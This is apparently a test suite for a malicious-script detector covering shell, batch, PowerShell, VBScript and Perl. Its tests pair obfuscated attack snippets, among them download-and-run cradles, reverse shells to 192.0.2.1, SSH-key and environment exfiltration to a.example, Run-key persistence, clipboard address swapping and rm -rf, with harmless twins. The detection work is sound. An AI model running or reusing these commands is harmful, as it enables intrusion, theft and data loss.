/** Every trick of the script readers beside an innocent twin that differs only there. Payloads are inert and addresses reserved. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { Budget, DEFAULT_LIMITS } from '../../kit/budget.ts';
import type { Reading, SourceText } from '../../model/reader.ts';
import type { Call, Language, SourceUnit } from '../../model/source.ts';
import { readBatch } from '../batch/read.ts';
import { readNative } from '../native/read.ts';
import { readPerl } from '../perl/read.ts';
import { readPowerShell } from '../powershell/read.ts';
import { readShell } from '../shell/read.ts';
import { readVbScript } from '../vbscript/read.ts';

type Reader = (source: SourceText, reading: Reading) => SourceUnit;

const READERS: Partial<Record<Language, Reader>> = { shell: readShell, powershell: readPowerShell, batch: readBatch, vbscript: readVbScript, perl: readPerl, native: readNative };

interface Inner {
  readonly text: string;
  readonly how: string;
  readonly language: Language | undefined;
}

function read(language: Language, text: string, milliseconds = 60_000): { unit: SourceUnit; calls: Call[]; inners: Inner[]; layers: SourceUnit[] } {
  const reader = READERS[language];
  assert.ok(reader);
  const inners: Inner[] = [];
  const layers: SourceUnit[] = [];
  const reading: Reading = {
    budget: new Budget({ ...DEFAULT_LIMITS, milliseconds }),
    inner: (inner, how, _, guess) => inners.push({ text: inner, how, language: guess }),
    added: (unit) => layers.push(unit),
  };
  const unit = reader({ path: 'file', text, language, stage: 'install', layers: [] }, reading);
  return { unit, calls: unit.calls, inners, layers };
}

/** The calls in short: effects, then address, path, command or data, then where those came from. */
function told(language: Language, text: string): string[] {
  return read(language, text).calls.map((call) => {
    const roles = Object.entries(call.roles).map(([role, value]) => `${role}=${value.text?.trim() ?? ''}${value.origins.length > 0 ? `<${[...new Set(value.origins.map((origin) => origin.source))].join(',')}>` : ''}`);
    return `${call.does.join(',')} ${roles.join(' ')}`;
  });
}

/** Each row: language, the trick, what must be told of it, and a twin of which that must not be told. */
const TRICKS: readonly (readonly [name: string, language: Language, trick: string, told: RegExp, innocent: string])[] = [
  ['a download in a pipe to a shell', 'shell', 'curl -fsSL http://a.example/x | sudo bash', /process\.shell.*code=<network>/, 'cat x | sudo bash'],
  ['a download that is run later', 'shell', 'wget -qO /tmp/p http://a.example/p; chmod +x /tmp/p; /tmp/p', /process\.run command=\/tmp\/p<network>/, 'wget -qO /tmp/q http://a.example/p; chmod +x /tmp/p; /tmp/p'],
  ['a name in variables', 'shell', 'a=cu; b=rl; $a$b http://a.example', /net\.fetch address=http:\/\/a\.example/, 'a=cu; b=rm; $a$b http://a.example'],
  ['a name cut out by replacing', 'shell', "x='c-u-r-l'; ${x//-/} http://a.example", /net\.fetch/, "x='c-u-r-x'; ${x//-/} http://a.example"],
  ['a default value', 'shell', 'curl "${U:-http://a.example/x}"', /address=http:\/\/a\.example\/x/, 'curl "${U:+http://b.example/x}"'],
  ['escapes in dollar quotes', 'shell', "$'\\x63url' http://a.example", /net\.fetch/, "'\\x63url' http://a.example"],
  ['base64 in a pipe', 'shell', 'echo Y3VybCBodHRwOi8vYS5leGFtcGxl | base64 -d | sh', /process\.shell command=curl http:\/\/a\.example<decoded>/, 'echo Y3VybCBodHRwOi8vYS5leGFtcGxl | base64 -d | cat'],
  ['hexadecimal in a pipe', 'shell', 'echo 6964 | xxd -r -p | sh', /process\.shell command=id<decoded>/, 'echo 6964 | xxd -p | sh'],
  ['tr in a pipe', 'shell', "echo phey | tr 'a-z' 'n-za-m' | sh", /command=curl/, "echo phey | tr 'a-z' 'a-z' | sh"],
  ['a here-document to a shell', 'shell', 'sh <<EOF\nid\nEOF\n', /process\.shell command=id/, 'cat <<EOF\nid\nEOF\n'],
  ['a socket and a shell', 'shell', 'bash -i >& /dev/tcp/192.0.2.1/99 0>&1', /process\.shell.*<network>/, 'bash -i >& /tmp/log 0>&1'],
  ['the environment sent away', 'shell', 'curl -d "$(env)" http://a.example', /net\.send.*data=<environment>/, 'curl -d "$(date)" http://a.example'],
  ['a credential file sent away', 'shell', 'curl -F f=@$HOME/.ssh/id_rsa http://a.example', /data=.*<secrets>/, 'curl -F f=@$HOME/notes.txt http://a.example'],
  ['the host name in a DNS label', 'shell', 'dig $(hostname).a.example', /net\.resolve address=.*<identity>/, 'dig www.a.example'],
  ['a shell profile is changed', 'shell', 'echo x >> ~/.bashrc', /file\.append path=~\/\.bashrc/, 'echo x >> ~/notes'],
  ['a loop that spells', 'shell', 's=; for c in 99 117 114 108; do s=$s$(printf "\\\\$(printf %03o $c)"); done; $s http://a.example', /net\.fetch/, 's=; for c in 99 117 114 109; do s=$s$(printf "\\\\$(printf %03o $c)"); done; $s http://a.example'],
  ['text given to eval', 'shell', "eval 'cu''rl http://a.example'", /net\.fetch/, "echo 'cu''rl http://a.example'"],
  ['a tree is deleted', 'shell', 'rm -rf ~/', /file\.delete-tree path=~\//, 'rm -f ~/x'],

  ['carets', 'batch', 'c^u^rl http://a.example -o x', /net\.fetch/, 'c^u^rx http://a.example -o x'],
  ['parts of variables', 'batch', 'set x=abcurlz\r\n%x:~2,4% http://a.example', /net\.fetch/, 'set x=abcurlz\r\n%x:~3,4% http://a.example'],
  ['unset names between letters', 'batch', 'cu%zq%rl http://a.example', /net\.fetch/, 'cu%HOMEDRIVE%rl http://a.example'],
  ['certutil as a downloader that is started', 'batch', 'certutil -urlcache -f http://a.example/x %TEMP%\\x.exe\r\nstart /b %TEMP%\\x.exe', /process\.run command=%TEMP%\\x\.exe<network>/, 'certutil -hashfile %TEMP%\\x.exe\r\nstart /b %TEMP%\\x.exe'],
  ['a Run key', 'batch', 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y', /registry\.write path=.*\\Run\\x data=y/, 'reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x'],
  ['the output of a command in a loop', 'batch', "for /f %%i in ('whoami') do curl http://a.example/%%i", /address=.*<identity>/, "for /f %%i in ('ver2') do curl http://a.example/%%i"],

  ['an encoded command', 'powershell', 'powershell -w hidden -e dwBoAG8AYQBtAGkA', /process\.hide.*code=whoami<decoded>/, 'powershell -w normal -c whoami'],
  ['a download that is evaluated', 'powershell', "IEX (New-Object Net.WebClient).DownloadString('http://a.example')", /code\.evaluate code=<network>/, "Write-Host (New-Object Net.WebClient).DownloadString('http://a.example')"],
  ['backticks and aliases', 'powershell', "i`e`x 'dir'", /code\.evaluate code=dir/, "e`ch`o 'dir'"],
  ['the format operator', 'powershell', "& ('{1}{0}' -f 'ex','i') 'dir'", /code\.evaluate code=dir/, "& ('{0}{1}' -f 'ex','i') 'dir'"],
  ['letters of a known variable', 'powershell', "& ($env:ComSpec[4,24,25] -join '') 'dir'", /code\.evaluate code=dir/, "& ($env:ComSpec[4,24,24] -join '') 'dir'"],
  ['characters by number', 'powershell', "iex (-join ((100,105,114) | % {[char]$_}))", /code\.evaluate code=dir/, "iex (-join ((100,105,114) | % {$_}))"],
  ['base64 text', 'powershell', "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('ZGly')))", /code\.evaluate code=dir<decoded>/, "iex ('ZGly')"],
  ['a loop over numbers with a key', 'powershell', '$o=""; foreach($n in 97,108,119){ $o += [char]($n -bxor 5) }; iex $o', /code\.evaluate code=dir/, '$o=""; foreach($n in 97,108,119){ $o += [char]($n -bxor 4) }; iex $o'],
  ['a compressed script', 'powershell', `iex (New-Object IO.StreamReader((New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAAAA0vJLAIAfplbNgMAAAA='))),[IO.Compression.CompressionMode]::Decompress)))).ReadToEnd()`, /code\.evaluate code=<decoded>|code\.evaluate code=dir<decoded>/, "iex 'dir'"],
  ['a downloaded program started out of sight', 'powershell', "iwr http://a.example -OutFile $env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe -WindowStyle Hidden", /process\.run command=%TEMP%\\x\.exe<network>/, "iwr http://a.example -OutFile $env:TEMP\\y.exe; Start-Process $env:TEMP\\x.exe -WindowStyle Hidden"],
  ['the clipboard is replaced', 'powershell', "if ((Get-Clipboard) -match '^bc1') { Set-Clipboard 'bc1qmadeup' }", /clipboard\.write data=bc1qmadeup/, "if ((Get-Clipboard) -match '^bc1') { Write-Host 'bc1qmadeup' }"],
  ['a folder kept from the scanner', 'powershell', "Add-MpPreference -ExclusionPath 'C:\\'", /process\.run command=C:\\/, "Get-MpPreference -ExclusionPath 'C:\\'"],
  ['a remote shell', 'powershell', '$c = New-Object Net.Sockets.TCPClient("192.0.2.1",9); $s = $c.GetStream(); $b = 0..9|%{0}; while(($i = $s.Read($b,0,9)) -ne 0){ iex ([Text.Encoding]::ASCII.GetString($b,0,$i)) }', /code\.evaluate code=<network>/, '$c = New-Object Net.Sockets.TCPClient("192.0.2.1",9); $s = $c.GetStream(); $b = 0..9|%{0}; while(($i = $s.Read($b,0,9)) -ne 0){ echo ([Text.Encoding]::ASCII.GetString($b,0,$i)) }'],

  ['an object named in pieces', 'vbscript', 'CreateObject("WScr" & "ipt.Sh" & Chr(101) & "ll").Run "calc"', /process\.shell command=calc/, 'CreateObject("WScr" & "ipt.Sh" & Chr(102) & "ll").Run "calc"'],
  ['a text turned round', 'vbscript', 'CreateObject("WScript.Shell").Run StrReverse("clac"), 0', /process\.shell command=calc/, 'CreateObject("WScript.Shell").Run "clac", 0'],
  ['a function that decodes', 'vbscript', 'Function d(s)\nDim i\nFor i = 1 To Len(s) Step 2\nd = d & Chr(CInt("&H" & Mid(s, i, 2)) Xor 1)\nNext\nEnd Function\nExecute d("6c726663")', /code\.evaluate code=msgb/, 'Function d(s)\nd = s\nEnd Function\nExecute d("6c726663")'],
  ['a download saved and run', 'vbscript', 'Set x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "http://a.example", False\nx.Send\nSet s = CreateObject("ADODB.Stream")\ns.Write x.ResponseBody\ns.SaveToFile "C:\\x.exe"\nCreateObject("WScript.Shell").Run "C:\\x.exe"', /process\.shell command=C:\\x\.exe<network>/, 'Set s = CreateObject("ADODB.Stream")\ns.Write "x"\ns.SaveToFile "C:\\x.exe"\nCreateObject("WScript.Shell").Run "C:\\x.exe"'],
  ['an address on the clipboard is swapped', 'vbscript', 'Do\nSet h = CreateObject("htmlfile")\nt = h.ParentWindow.ClipboardData.GetData("text")\nIf Len(t) = 34 Then h.ParentWindow.ClipboardData.SetData "text", "1MadeUp"\nWScript.Sleep 500\nLoop', /clipboard\.write data=1MadeUp/, 'Do\nSet h = CreateObject("htmlfile")\nt = h.ParentWindow.ClipboardData.GetData("text")\nIf Len(t) = 34 Then WScript.Echo "1MadeUp"\nWScript.Sleep 500\nLoop'],
  ['base64 in an XML element', 'vbscript', 'Set e = CreateObject("Msxml2.DOMDocument").createElement("b")\ne.dataType = "bin.base64"\ne.text = "TXNnQm94IDE="\nExecute e.nodeTypedValue', /code\.evaluate code=MsgBox 1<decoded>/, 'Set e = CreateObject("Msxml2.DOMDocument").createElement("b")\ne.text = "TXNnQm94IDE="\nExecute e.text'],

  ['a download that is evaluated in Perl', 'perl', 'my $c = get("http://a.example"); eval $c;', /code\.evaluate code=<network>/, 'my $c = get("http://a.example"); print $c;'],
  ['base64 in Perl', 'perl', 'eval(decode_base64("cHJpbnQgMQ=="));', /code\.evaluate code=print 1<decoded>/, 'print(decode_base64("cHJpbnQgMQ=="));'],
  ['a value through a sub', 'perl', 'sub d { my ($s) = @_; return reverse($s); } system(d("di"));', /process\.shell command=id/, 'sub d { my ($s) = @_; return $s; } system(d("di"));'],
  ['an argument that is shifted', 'perl', 'sub f { my $u = shift; eval get($u); } f("http://a.example");', /code\.evaluate code=<network>/, 'sub f { my $u = shift; print get($u); } f("http://a.example");'],
  ['a loop with a key', 'perl', 'my $o = ""; foreach my $n (109,97) { $o .= chr($n ^ 4); } system($o);', /process\.shell command=ie/, 'my $o = ""; foreach my $n (109,97) { $o .= chr($n ^ 5); } system($o);'],
  ['a map over numbers', 'perl', 'eval join("", map { chr($_ - 1) } (113,115,106,111,117));', /code\.evaluate code=print/, 'eval join("", map { chr($_) } (113,115,106,111,117));'],
  ['the last index of a list', 'perl', 'my $n = $#list; system("id");', /process\.shell command=id/, 'my $n = 1; # system("id");'],
  ['an element of a table', 'perl', '$h{cmd} = "id"; system($h{cmd});', /process\.shell command=id/, '$h{cmd} = "id"; system($h{other});'],
  ['a list that grows', 'perl', 'my @c; push @c, "cu"; push @c, "rl http://a.example"; system(join("", @c));', /process\.shell command=curl/, 'my @c; push @c, "cu"; system(join("", @c));'],
  ['a command in backticks', 'perl', 'my $x = `id`;', /process\.shell command=id/, "my $x = 'id';"],
];

for (const [name, language, trick, expected, innocent] of TRICKS) {
  test(`${language}: ${name}`, () => {
    assert.ok(told(language, trick).some((line) => expected.test(line)), told(language, trick).join('\n'));
    assert.ok(!told(language, innocent).some((line) => expected.test(line)), told(language, innocent).join('\n'));
  });
}

const HANDED_ON: readonly (readonly [language: Language, text: string, inner: string, to: Language])[] = [
  ['shell', 'python3 -c "print(1)"', 'print(1)', 'python'],
  ['shell', "node -e 'f()'", 'f()', 'javascript'],
  ['shell', "perl -e 'print 1'", 'print 1', 'perl'],
  ['shell', 'powershell -enc dwBoAG8AYQBtAGkA', 'whoami', 'powershell'],
  ['shell', 'cmd /c "dir x"', 'dir x', 'batch'],
  ['shell', 'sh -c "id; ls"', 'id; ls', 'shell'],
  ['shell', "cat > a.py <<'X'\nprint(2)\nX\npython a.py", 'print(2)\n', 'python'],
  ['batch', '(echo MsgBox 1) > a.vbs\r\nwscript a.vbs', 'MsgBox 1\r\n', 'vbscript'],
  ['batch', 'mshta vbscript:Execute("MsgBox 1")', 'Execute("MsgBox 1")', 'vbscript'],
  ['powershell', "cmd /c 'echo hi'", 'echo hi', 'batch'],
  ['vbscript', '<job><script language="JScript">f()</script></job>', 'f()', 'javascript'],
];

for (const [language, text, inner, to] of HANDED_ON) {
  test(`${language} hands ${JSON.stringify(text.slice(0, 40))} on as ${to}`, () => {
    const found = read(language, text).inners.find((candidate) => candidate.language === to);
    assert.equal(found?.text, inner);
  });
}

test('the layer of decoded code is named', () => {
  assert.equal(read('shell', 'echo aWQ= | base64 -d | sh').inners[0]?.how, 'base64');
});

test('conditions around a command are told', () => {
  const [call] = read('shell', 'if [ -n "$CI" ]; then curl http://a.example; fi').calls.filter((candidate) => candidate.name === 'curl');
  assert.deepEqual(call?.guards, ['[ -n "$CI" ]']);
});

test('what follows a test that exits stands under its opposite', () => {
  const [call] = read('shell', '[ -n "$CI" ] && exit 0\ncurl http://a.example').calls.filter((candidate) => candidate.name === 'curl');
  assert.deepEqual(call?.guards, ['!([ -n "$CI" ])']);
});

test('conditions around what Perl does are told, before and behind', () => {
  const guards = (text: string) => read('perl', text).calls.filter(({ name }) => name === 'system').map((call) => call.guards);
  assert.deepEqual(guards('if ($ENV{CI}) { system("a"); } elsif ($x) { system("b"); } else { system("c"); }'), [['$ENV{CI}'], ['$x'], ['!($x)']]);
  assert.deepEqual(guards('system("a") unless -t STDIN; system("b");'), [['!(-t STDIN)'], []]);
  assert.deepEqual(guards('exit if $ENV{CI};\nsystem("a");'), [['!($ENV{CI})']]);
  assert.deepEqual(guards('-e "x" and system("a"); open(F, "x") or system("b"); while (1) { system("c") }'), [['-e "x"'], ['!(open(F, "x"))'], []]);
});

test('a sub that nothing calls runs later than its script, in a module for whoever loads it', () => {
  const text = 'sub f { system("a"); }\nsub g { system("b"); }\ng();\n';
  const staged = (path: string) => readPerl({ path, text, language: 'perl', stage: 'install', layers: [] }, { budget: new Budget(), inner: () => undefined })
    .calls.filter(({ name }) => name === 'system').map(({ stage, within, guards }) => [stage, within, guards.length]);
  assert.deepEqual(staged('Makefile.PL'), [['install', 'g', 0], ['run', 'f', 1]]);
  assert.deepEqual(staged('lib/Forged.pm'), [['install', 'g', 0], ['install', 'f', 1]]);
});

test('a function that nothing calls runs later than its script', () => {
  const calls = read('shell', 'f() { curl http://a.example; }\nwget http://b.example').calls;
  assert.deepEqual(calls.filter((call) => call.does.includes('net.fetch')).map((call) => [call.name, call.stage]), [['wget', 'install'], ['curl', 'run']]);
});

test('a loop that is left open ends, for a pass is never free', () => {
  const { unit } = read('vbscript', ' \nDo\n]');
  assert.deepEqual(unit.gaps, []);
});

test('text that a script evaluates itself is a layer of its own', () => {
  const { layers } = read('vbscript', 'Execute "WScript.Sleep " & "5"');
  assert.deepEqual(layers.map((layer) => [layer.text, layer.calls.map((call) => call.name)]), [['WScript.Sleep 5', ['wscript.sleep']]]);
});

const PIECES = ['(', ')', '{', '}', '$(', '${', '`', '"', "'", '\\', '\n', ' ', ';', '|', '&', '<<A\n', 'A\n', '[', ']', '@', '%', '%a%', '!a!', '^', 'if ', 'then ', 'fi\n', 'for x in a; do ', 'done\n', 'case a in ', 'esac\n', 'function f ', 'End If\n', 'Next\n', 'Do\n', 'Loop\n', 'set a=', '$a', '=', '+=', '-join', '-f ', ',', '.', '::', '[char]', '9', 'a', 'é', '\0', 'eval ', 'iex ', 'Execute ', '-replace', '->', 'q(', 's/', '/', '<#', '#', '1..9', '|%{$_}', 'while(1){'];

for (const language of ['shell', 'powershell', 'batch', 'vbscript', 'perl', 'native'] as const) {
  test(`${language}: no text makes the reader throw`, () => {
    const text = fc.oneof(fc.string({ maxLength: 200 }), fc.array(fc.constantFrom(...PIECES), { maxLength: 80 }).map((pieces) => pieces.join('')));
    fc.assert(fc.property(text, (source) => {
      read(language, source, 1_000);
    }), { numRuns: 300 });
  });

  test(`${language}: hundreds of kilobytes in one line or one nest end soon`, () => {
    const reader = READERS[language];
    const budget = new Budget({ ...DEFAULT_LIMITS, milliseconds: 20_000 });
    const start = process.cpuUsage();
    for (const piece of ['(', '$(', '{', 'a', '"', 'if ', 'x=y ', '`', '[', 'a|', '$a.', ',', 'a\n', 's/', '|%{$_}', 'a=%a%b\n']) {
      reader?.({ path: 'file', text: piece.repeat(200_000 / piece.length), language, stage: 'install', layers: [] }, { budget, inner: () => undefined });
    }
    // What grows with the square of its input takes minutes here; a slow machine stays far below.
    assert.ok(process.cpuUsage(start).user < 60_000_000);
  });
}
